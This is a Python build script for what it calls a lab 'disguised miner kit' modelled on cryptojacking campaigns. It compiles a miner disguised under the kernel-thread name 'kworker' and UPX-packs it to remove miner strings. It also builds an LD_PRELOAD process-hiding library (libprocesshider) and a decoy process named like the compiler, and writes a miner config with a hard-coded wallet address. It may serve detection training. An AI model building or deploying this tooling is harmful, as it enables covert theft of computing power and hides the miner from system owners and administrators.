#!/usr/bin/env python3
"""Builds the lab's disguised miner kit from source, as cryptojacking campaigns deploy XMRig:

- `kworker`: cminer.c compiled and UPX-packed (a kernel thread's name, no miner strings left
  in the file), which reads its pool from config.json in its working directory, runs at
  nice 19 with a thread count throttled by "threads-hint", and keeps a RandomX-light-sized
  scratchpad in transparent huge pages;
- `libhide.so`: processhider.c, a readdir filter hiding processes named `kworker` from /proc
  listings (libprocesshider), for LD_PRELOAD into one process or a temporary root's
  etc/ld.so.preload — never the machine's;
- `cc1`: busy.c, a CPU-bound neighbour named like the compiler's back end.

    disguise.py build OUTDIR [--no-upx]
    disguise.py config DIR --url IP:PORT [--threads-hint PCT] [--scratch-mb N]

Needs gcc (and upx-ucl, from bookworm-backports on Debian 12, unless --no-upx).
"""

from __future__ import annotations

import argparse
import json
import shutil
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
MINER_NAME = "kworker"
WALLET = ("48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSW"
          "J4fhdUyZijBGUicoD")


class KitError(RuntimeError):
    pass


def _run(*cmd: str) -> None:
    proc = subprocess.run(cmd, capture_output=True, text=True, check=False, timeout=300)
    if proc.returncode != 0:
        raise KitError(f"{' '.join(cmd)}: {proc.stderr.strip() or proc.stdout.strip()}")


def build(out: Path, *, upx: bool = True) -> dict[str, Path]:
    """Compile the kit into `out`; returns {"miner", "hider", "busy"} paths."""
    cc = shutil.which("gcc") or shutil.which("cc")
    if cc is None:
        raise KitError("no C compiler (gcc) on PATH: scripts/bootstrap.sh installs it")
    packer = shutil.which("upx") or shutil.which("upx-ucl")
    if upx and packer is None:
        raise KitError("no upx on PATH: scripts/bootstrap.sh installs upx-ucl "
                       "(bookworm-backports)")
    out.mkdir(parents=True, exist_ok=True)
    miner, hider, busy = out / MINER_NAME, out / "libhide.so", out / "cc1"
    _run(cc, "-O2", "-pthread", "-o", str(miner), str(HERE / "cminer.c"))
    if upx and packer is not None:
        _run(packer, "-q", "-q", str(miner))
    _run(cc, "-shared", "-fPIC", "-O2", f'-DHIDE_NAME="{MINER_NAME}"', "-o", str(hider),
         str(HERE / "processhider.c"), "-ldl")
    _run(cc, "-O2", "-pthread", "-o", str(busy), str(HERE / "busy.c"))
    return {"miner": miner, "hider": hider, "busy": busy}


def write_config(directory: Path, url: str, *, threads_hint: int = 50, scratch_mb: int = 256,
                 share_interval: int = 2, nice: int = 19) -> Path:
    """An XMRig-like config.json: the pool is here, not on the command line."""
    path = directory / "config.json"
    path.write_text(json.dumps({"autosave": False, "url": url, "user": WALLET, "pass": "x",
                                "threads-hint": threads_hint, "scratch-mb": scratch_mb,
                                "share-interval": share_interval, "nice": nice,
                                "donate-level": 0}, indent=2) + "\n")
    return path


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("build")
    b.add_argument("outdir", type=Path)
    b.add_argument("--no-upx", action="store_true")
    c = sub.add_parser("config")
    c.add_argument("dir", type=Path)
    c.add_argument("--url", required=True)
    c.add_argument("--threads-hint", type=int, default=50)
    c.add_argument("--scratch-mb", type=int, default=256)
    args = ap.parse_args()
    try:
        if args.cmd == "build":
            for role, path in build(args.outdir, upx=not args.no_upx).items():
                sys.stdout.write(f"{role}: {path}\n")
        else:
            sys.stdout.write(f"{write_config(args.dir, args.url, threads_hint=args.threads_hint, scratch_mb=args.scratch_mb)}\n")
    except KitError as exc:
        sys.stderr.write(f"disguise.py: {exc}\n")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
